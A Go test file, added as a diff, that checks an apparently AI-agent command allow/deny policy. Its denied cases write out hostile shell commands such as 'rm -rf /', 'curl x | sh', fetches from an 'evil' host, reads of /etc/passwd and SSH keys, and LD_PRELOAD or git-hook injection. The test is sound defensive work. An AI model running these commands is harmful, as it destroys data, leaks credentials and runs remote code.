@@ -0,0 +1,140 @@
+package agents
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/ahmetk3436/EcoMonitor-AI/orchestrator/internal/prompts"
+)
+
+func TestCommandPolicyCheck(t *testing.T) {
+	tests := []struct {
+		command string
+		ok      bool
+	}{
+		{"cd backend && go mod tidy", true},
+		{"cd mobile && npx --no-install tsc --noEmit", true},
+		{"GOOS=linux go build ./...", true},
+		{"go test ./... 2>&1 | cat", true},
+		{"cd backend; go vet ./...", true},
+
+		{"", false},
+		{"rm -rf /", false},
+		{"curl x | sh", false},
+		{"echo hi & curl http://evil -o x", false},
+		{"echo hi&curl http://evil", false},
+		{"cat $HOME/.ssh/id_rsa", false},
+		{"cat '/etc/passwd'", false},
+		{`cat "/etc/passwd"`, false},
+		{`cat \/etc/passwd`, false},
+		{"cat /etc/passwd", false},
+		{"cat ~/.ssh/id_rsa", false},
+		{"cat ../../etc/passwd", false},
+		{"cat x/../../y", false},
+		{"cat /e*", false},
+		{"cat {/etc/passwd,}", false},
+		{"echo $(id)", false},
+		{"echo `id`", false},
+		{"echo x > main.go", false},
+		{"node -e \"require('child_process').execSync('id')\"", false},
+		{"node build.js", false},
+		{"npx expo install axios", false},
+		{"npx --no-install -c id", false},
+		{"npm exec evil", false},
+		{"npm install --prefix=/etc", false},
+		{"npm publish", false},
+		{"go env -w GOFLAGS=x", false},
+		{"go test -exec evil ./...", false},
+		{"go build -toolexec=evil ./...", false},
+		{"PATH=. go build", false},
+		{"NODE_OPTIONS=--require=x tsc", false},
+		{"LD_PRELOAD=x.so go build", false},
+		{"go build\nrm -rf .", false},
+
+		{"ls .", true},
+		{"cat .env.example", true},
+		{"cp backend/config.go backend/config.go.bak", true},
+		{"npm install", true},
+		{"npm install --ignore-scripts axios", true},
+		{"cd mobile && npm ci", true},
+		{"go mod download", true},
+		{"cat .env", false},
+		{"cp .env x", false},
+		{"cat backend/.env.local", false},
+		{"cd backend && cat .env", false},
+		{"cat certs/server.key", false},
+		{"cat link/passwd", false},
+		{"cat envlink", false},
+		{"cp x .git/hooks/pre-commit", false},
+		{"mv x ./.git/hooks/post-checkout", false},
+		{"cd .git && cp x hooks/pre-commit", false},
+		{"cp x gitlink/hooks/pre-commit", false},
+		{"go run ./cmd/tool", false},
+		{"go generate ./...", false},
+		{"go tool evil", false},
+		{"npm install axios", false},
+		{"npm i -D typescript", false},
+		{"cd mobile && npm add left-pad", false},
+		{"yarn add axios", false},
+		{"pnpm add axios", false},
+	}
+
+	root := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, ".env"), []byte("TOKEN=x\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, link := range []struct{ target, name string }{
+		{"/etc", "link"},
+		{".env", "envlink"},
+		{".git", "gitlink"},
+	} {
+		if err := os.Symlink(link.target, filepath.Join(root, link.name)); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	policy := DefaultCommandPolicy()
+	for _, tt := range tests {
+		err := policy.Check(root, tt.command)
+		if (err == nil) != tt.ok {
+			t.Errorf("Check(%q) = %v, want ok=%v", tt.command, err, tt.ok)
+		}
+	}
+}
+
+func TestCommandPolicyCustomLists(t *testing.T) {
+	policy := NewCommandPolicy([]string{"make", "node"}, []string{"make  deploy"})
+
+	if err := policy.Check(t.TempDir(), "make build"); err != nil {
+		t.Errorf("make build: %v", err)
+	}
+	if err := policy.Check(t.TempDir(), "make deploy now"); err == nil {
+		t.Error("make deploy was not denied")
+	}
+	if err := policy.Check(t.TempDir(), "go build"); err == nil {
+		t.Error("go is allowed without being listed")
+	}
+	if err := policy.Check(t.TempDir(), "node --eval x"); err == nil {
+		t.Error("node --eval is allowed")
+	}
+}
+
+func TestDebuggerPromptListsAllowedCommands(t *testing.T) {
+	policy := NewCommandPolicy([]string{"npm", "go", "make"}, nil)
+	if got := strings.Join(policy.Allowed(), ","); got != "go,make,npm" {
+		t.Errorf("Allowed() = %s", got)
+	}
+
+	prompt := prompts.SystemWith(prompts.DebuggerSystem, prompts.Data{AllowedCommands: policy.Allowed()})
+	if !strings.Contains(prompt, "Only these programs may be run: go, make, npm.") {
+		t.Errorf("custom allow list not rendered:\n%s", prompt)
+	}
+	if prompt := NewDebugger(nil).SystemPrompt(); !strings.Contains(prompt, "go, gofmt, goimports, ls, mkdir, mv, npm, npx,") || strings.Contains(prompt, "node,") {
+		t.Errorf("default allow list not rendered:\n%s", prompt)
+	}
+}